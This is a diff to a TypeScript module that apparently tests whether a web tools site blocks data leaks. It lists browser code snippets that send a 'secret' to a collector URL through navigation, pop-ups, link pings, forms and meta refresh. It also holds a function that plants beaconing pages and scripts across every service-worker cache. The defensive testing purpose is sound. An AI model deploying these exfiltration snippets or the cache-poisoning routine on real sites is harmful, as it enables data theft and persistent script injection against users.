@@ -56,19 +56,31 @@ export const silentChannels: Readonly<Record<string, string>> = {
     svg.append(use); document.body.append(svg)`,
 };
 
-/** Ways that leave the page or open another one: each needs a page of its own. */
-export const leavingChannels: Readonly<Record<string, string>> = {
-  location: `location.href = collector + 'location?secret'`,
+/** Ways that open another page, or ask on the side while a link is followed: the page stays, so they can share one. */
+export const openingChannels: Readonly<Record<string, string>> = {
   open: `window.open(collector + 'open?secret')`,
   openNoOpener: `window.open(collector + 'open-no-opener?secret', '_blank', 'noopener')`,
-  link: `const link = element('a', { href: collector + 'link?secret' }); link.click()`,
   linkTarget: `const link = element('a', { href: collector + 'link-target?secret', target: '_blank' }); link.click()`,
   ping: `const link = element('a', { href: '#x', ping: collector + 'ping' }); link.click()`,
+  formTarget: `const form = element('form', { action: collector + 'form-target', target: '_blank' }); form.submit()`,
+};
+
+/** Ways that leave the page: each needs a page of its own. */
+export const leavingChannels: Readonly<Record<string, string>> = {
+  location: `location.href = collector + 'location?secret'`,
+  link: `const link = element('a', { href: collector + 'link?secret' }); link.click()`,
   formGet: `const form = element('form', { action: collector + 'form-get' }); form.submit()`,
   formPost: `const form = element('form', { action: collector + 'form-post', method: 'post' }); form.submit()`,
-  formTarget: `const form = element('form', { action: collector + 'form-target', target: '_blank' }); form.submit()`,
   metaRefresh: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + collector + 'meta-refresh'; document.head.append(meta)`,
 };
+
+/** The ways by navigation, as scripts for a page each. */
+export const navigations: readonly string[] = [
+  Object.values(openingChannels)
+    .map((code) => `{ ${code} }`)
+    .join('\n'),
+  ...Object.values(leavingChannels),
+];
 
 /** Ways to reach our own server beyond the assets: closed as well, so that not even we can take data from a tool. */
 export const ownChannels: Readonly<Record<string, string>> = {
@@ -81,7 +93,8 @@ export const ownChannels: Readonly<Record<string, string>> = {
 
 /**
  * A way out by a detour: writes pages and scripts that send data out, and carry no policy, over all that the service
- * worker has stored, and beside it. Returns how many answers it planted.
+ * worker has stored, and beside it at the addresses of pages and of this page's scripts. Returns how many answers it
+ * planted.
  */
 export async function plantInCaches(collector: string): Promise<number> {
   const script = `new Image().src = '${collector}planted'; fetch('${collector}planted', { mode: 'no-cors' });`;
@@ -89,17 +102,16 @@ export async function plantInCaches(collector: string): Promise<number> {
     new Response(isScript ? script : `<!doctype html><title>Planted</title><script>${script}</script>`, {
       headers: { 'content-type': isScript ? 'text/javascript' : 'text/html' },
     });
-  const keys = new Set(['/', '/all-tools', '/tools/hash-generator', location.pathname]);
-  const names = new Set(['assets', 'pages', ...(await caches.keys())]);
-  for (const name of names) {
-    for (const { url } of await (await caches.open(name)).keys()) {
-      keys.add(url);
-      keys.add(new URL(url).pathname);
+  const loaded = performance.getEntriesByType('resource').map(({ name }) => name);
+  const beside = ['/', '/all-tools', '/tools/hash-generator', location.pathname, ...loaded];
+  let count = 0;
+  for (const name of new Set(['assets', 'pages', ...(await caches.keys())])) {
+    const cache = await caches.open(name);
+    const stored = (await cache.keys()).map(({ url }) => url);
+    for (const key of new Set([...stored, ...beside])) {
+      await cache.put(key, plant(new URL(key, location.href).pathname.endsWith('.js')));
+      count += 1;
     }
   }
-  for (const name of names) {
-    const cache = await caches.open(name);
-    for (const key of keys) await cache.put(key, plant(new URL(key, location.href).pathname.endsWith('.js')));
-  }
-  return keys.size * names.size;
+  return count;
 }
